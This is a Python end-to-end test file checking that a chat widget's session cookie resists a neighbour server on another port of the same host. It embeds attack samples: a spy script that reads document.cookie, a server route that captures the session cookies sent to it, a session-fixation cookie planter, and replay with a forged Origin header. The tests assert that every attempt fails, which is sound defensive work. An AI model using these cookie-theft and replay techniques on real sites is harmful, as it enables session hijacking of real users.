"""In real Chromium: a neighbour on another port of the same hosts can
neither read the visitor's session nor plant one of its own that it can then use.

The demo serves the board on ``localhost`` and Hostcall on ``127.0.0.1``. The neighbour runs
one server on another port, reachable as both: its page at ``http://localhost:<n>/top`` (a
page of the board's site, as on shared hosting) frames ``http://127.0.0.1:<n>/spy`` (a page
of Hostcall's host). Cookies ignore ports, and the spy frame sits in the same CHIPS
partition as the widget, so before the fix it read the widget's cookie with document.cookie.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Browser, Frame, Page, expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route

from tests.e2e.conftest import Demo, shot
from tests.e2e.flows_helpers import session
from tests.e2e.test_security import WIDGET, last_text, open_chat, say
from tests.support.loopback import serve_in_thread

SPY = """<!doctype html><meta charset=utf-8><body><script>
// What a neighbour's script on Hostcall's host can see and do.
const hostcall = new URLSearchParams(location.search).get('hostcall')
const board = new URLSearchParams(location.search).get('board')
document.body.dataset.cookies = document.cookie
fetch(hostcall + '/api/agents/planner/session', {
  method: 'POST', credentials: 'include',
  headers: {'content-type': 'text/plain'}, body: JSON.stringify({parentOrigin: board}),
}).then(r => r.text().then(t => { document.body.dataset.resume = r.status + ' ' + t }),
        e => { document.body.dataset.resume = 'blocked: ' + e })
// Its own server on this port, at the path the widget's cookie is sent to: the browser sends
// the cookie here too (cookies ignore ports), and the neighbour's server keeps it.
fetch('/api/agents/planner/session', {method: 'POST', credentials: 'include'})
  .then(r => { document.body.dataset.caught = r.status })
</script>"""


#: The Cookie headers the neighbour's server was sent, in order.
CAUGHT: list[str] = []


@pytest.fixture
def neighbour() -> Iterator[int]:
    CAUGHT.clear()

    async def catch(request: Request) -> Response:
        CAUGHT.append(request.headers.get("cookie", ""))
        return Response(status_code=204)

    async def top(request: Request) -> Response:
        src = request.query_params["frame"]
        return HTMLResponse(f'<!doctype html><iframe name=spy src="{src}"></iframe>')

    async def spy(request: Request) -> Response:
        return HTMLResponse(SPY)

    async def plant(request: Request) -> Response:
        # A server on another port may Set-Cookie for the whole host (ports do not count).
        name, value = request.query_params["name"], request.query_params["value"]
        response = HTMLResponse("<!doctype html><body data-planted=1>")
        response.headers.append(
            "set-cookie",
            f"{name}={value}; Path=/api/agents/planner/session; HttpOnly; Secure; "
            "SameSite=None; Partitioned; Max-Age=3600",
        )
        return response

    routes = [Route("/top", top), Route("/spy", spy), Route("/plant", plant)]
    routes.append(Route("/api/agents/planner/session", catch, methods=["POST"]))
    app = Starlette(routes=routes)
    with serve_in_thread(app) as port:
        yield port


def open_neighbour(page: Page, port: int, frame_url: str) -> Frame:
    page.goto(f"http://localhost:{port}/top?frame={quote(frame_url)}")
    frame = page.frame(name="spy")
    assert frame is not None
    frame.wait_for_load_state()
    return frame


def test_neighbour_on_another_port_cannot_read_or_resume_the_session(
    page: Page, browser: Browser, demo: Demo, neighbour: int
) -> None:
    widget, _ = open_chat(page, demo)
    say(widget, "What should I work on next?")
    expect(widget.locator("[data-part=message][data-role=assistant]").last).to_be_visible()
    mine = session(page, demo)
    # Same browser, same partition as the widget: the neighbour's frame on 127.0.0.1.
    spy_page = page.context.new_page()
    board = demo.board.rstrip("/")
    spy = open_neighbour(
        spy_page,
        neighbour,
        f"http://127.0.0.1:{neighbour}/spy?hostcall={demo.hostcall}&board={board}",
    )
    spy.wait_for_function("document.body.dataset.resume !== undefined")
    cookies = spy.evaluate("document.body.dataset.cookies")
    resume = spy.evaluate("document.body.dataset.resume")
    shot(spy_page, "neighbour-spy")
    assert "hc_session" not in cookies and mine["sessionToken"] not in cookies, cookies
    assert mine["conversationId"] not in resume and mine["sessionToken"] not in resume, resume
    # Nor did its attempt rotate the visitor's session: the widget's token still works.
    r = httpx.get(
        f"{demo.hostcall}/api/conversations/{mine['conversationId']}",
        headers={"Authorization": f"Bearer {mine['sessionToken']}"},
    )
    assert r.status_code == 200, r.text
    # The cookie is there, for the widget only: the browser holds it as HttpOnly.
    jar = [c for c in page.context.cookies() if c["name"].startswith("hc_session")]
    assert jar and all(c["httpOnly"] and c["secure"] for c in jar), jar


def test_a_planted_session_gives_the_neighbour_nothing(
    page: Page, demo: Demo, neighbour: int
) -> None:
    board = demo.board.rstrip("/")
    # The neighbour gets a conversation of its own, from outside the browser, with a key of
    # its own (it cannot know the visitor's page's key).
    key = "n" * 48
    created = httpx.post(
        f"{demo.hostcall}/api/agents/planner/conversations",
        json={"parentOrigin": board, "resumeKey": key},
        headers={"Origin": board},
    )
    assert created.status_code == 201, created.text
    theirs: dict[str, Any] = created.json()
    name, _, rest = created.headers["set-cookie"].partition("=")
    value = rest.partition(";")[0]
    # ... and plants its cookie in the visitor's browser, before the visitor comes.
    planter = open_neighbour(
        page, neighbour, f"http://127.0.0.1:{neighbour}/plant?name={name}&value={value}"
    )
    planter.wait_for_selector("body[data-planted]", state="attached")

    page.goto(demo.board)
    page.locator("[data-part=hostcall-launcher]").click()
    widget = page.frame_locator(WIDGET)
    expect(widget.locator("[data-part=send]")).to_be_enabled()
    say(widget, "What should I work on next?")
    expect(widget.locator("[data-part=message][data-role=assistant]").last).to_be_visible()
    mine = session(page, demo)
    # The planted cookie, bound to the planter's key, did not resume with the visitor's: the
    # visitor is in a conversation of their own, and the planter's holds nothing of theirs.
    assert mine["conversationId"] != theirs["conversationId"]
    auth = {"Authorization": f"Bearer {theirs['sessionToken']}"}
    snap = httpx.get(f"{demo.hostcall}/api/conversations/{theirs['conversationId']}", headers=auth)
    assert snap.status_code == 200 and snap.json()["messages"] == [], snap.text
    again = httpx.post(
        f"{demo.hostcall}/api/agents/planner/session",
        json={"parentOrigin": board, "resumeKey": key},
        headers={"Origin": demo.hostcall, "Cookie": f"{name}={value}"},
    )
    assert again.status_code == 200 and again.json()["conversationId"] == theirs["conversationId"]
    # The visitor's own session works, and a reload keeps the conversation.
    page.reload()
    page.locator("[data-part=hostcall-launcher]").click()
    expect(last_text(widget, "user")).to_have_text("What should I work on next?")
    assert session(page, demo)["conversationId"] == mine["conversationId"]


def test_a_cookie_caught_by_a_neighbours_server_opens_nothing(
    page: Page, demo: Demo, neighbour: int
) -> None:
    # The visitor has a call waiting for approval: what a neighbour would like to decide.
    widget, _ = open_chat(page, demo)
    say(widget, "Add a task to review the Q3 report before Friday")
    approve = widget.locator("[data-part=approve]")
    expect(approve).to_be_visible()
    mine = session(page, demo)
    spy_page = page.context.new_page()
    board = demo.board.rstrip("/")
    spy = open_neighbour(
        spy_page,
        neighbour,
        f"http://127.0.0.1:{neighbour}/spy?hostcall={demo.hostcall}&board={board}",
    )
    spy.wait_for_function("document.body.dataset.caught !== undefined")
    caught = [c for c in CAUGHT if "hc_session" in c]
    assert caught, CAUGHT  # the browser did send it: only the key makes it worthless
    # The neighbour replays it from its server, forging the widget's Origin: to resume it,
    # and as a session token.
    headers = {"Origin": demo.hostcall, "Cookie": caught[-1]}
    replayed = httpx.post(
        f"{demo.hostcall}/api/agents/planner/session", json={"parentOrigin": board}, headers=headers
    )
    # Nothing to resume, as for a first visit: no body, no cookie.
    assert replayed.status_code == 204, replayed.text
    assert replayed.content == b""
    assert not replayed.headers.get("set-cookie")
    value = caught[-1].partition("=")[2].partition(";")[0]
    as_token = httpx.get(
        f"{demo.hostcall}/api/conversations/{mine['conversationId']}",
        headers={"Origin": demo.hostcall, "Authorization": f"Bearer {value}"},
    )
    assert as_token.status_code in (401, 403), as_token.text
    assert "decisionToken" not in as_token.text
    shot(spy_page, "neighbour-caught-cookie")
    # The visitor's session was not replaced, and the visitor decides the call.
    r = httpx.get(
        f"{demo.hostcall}/api/conversations/{mine['conversationId']}",
        headers={"Authorization": f"Bearer {mine['sessionToken']}"},
    )
    assert r.status_code == 200, r.text
    approve.click()
    card = widget.locator("[data-part=tool-call][data-tool=create_task]")
    expect(card).to_have_attribute("data-state", "done")
    expect(last_text(widget, "assistant")).to_contain_text("Done: I created")
    page.reload()
    page.locator("[data-part=hostcall-launcher]").click()
    expect(last_text(widget, "user")).to_have_text(
        "Add a task to review the Q3 report before Friday"
    )
    assert session(page, demo)["conversationId"] == mine["conversationId"]


def test_standalone_a_reload_keeps_the_conversation_and_the_caught_cookie_opens_nothing(
    page: Page, demo: Demo, neighbour: int
) -> None:
    # Opened on its own (no embedding page): the key is in the widget's own localStorage,
    # which a page on another port cannot read.
    page.goto(f"{demo.hostcall}/widget/planner")
    composer = page.locator("[data-part=composer-input]")
    expect(page.locator("html[data-agent-state=idle]")).to_have_count(1)
    composer.fill("What should I work on next?")
    composer.press("Enter")
    # No page answers the board read here: the visitor is asked for it, in a form.
    expect(page.locator("html[data-agent-state=waiting]")).to_have_count(1)
    held = "async () => (await import('/static/app.js')).currentSession()"
    mine = page.evaluate(held)
    assert mine["conversationId"]
    spy_page = page.context.new_page()
    spy_page.goto(f"http://127.0.0.1:{neighbour}/spy?hostcall={demo.hostcall}&board=")
    spy_page.wait_for_function("document.body.dataset.caught !== undefined")
    caught = [c for c in CAUGHT if "hc_session" in c]
    assert caught, CAUGHT
    replayed = httpx.post(
        f"{demo.hostcall}/api/agents/planner/session",
        json={"parentOrigin": ""},
        headers={"Origin": demo.hostcall, "Cookie": caught[-1]},
    )
    assert replayed.status_code == 204, replayed.text  # nothing to resume
    assert replayed.content == b"" and not replayed.headers.get("set-cookie")
    page.reload()
    user = page.locator("[data-part=message][data-role=user] [data-part=message-text]")
    expect(user).to_have_text(["What should I work on next?"])
    assert page.evaluate(held)["conversationId"] == mine["conversationId"]
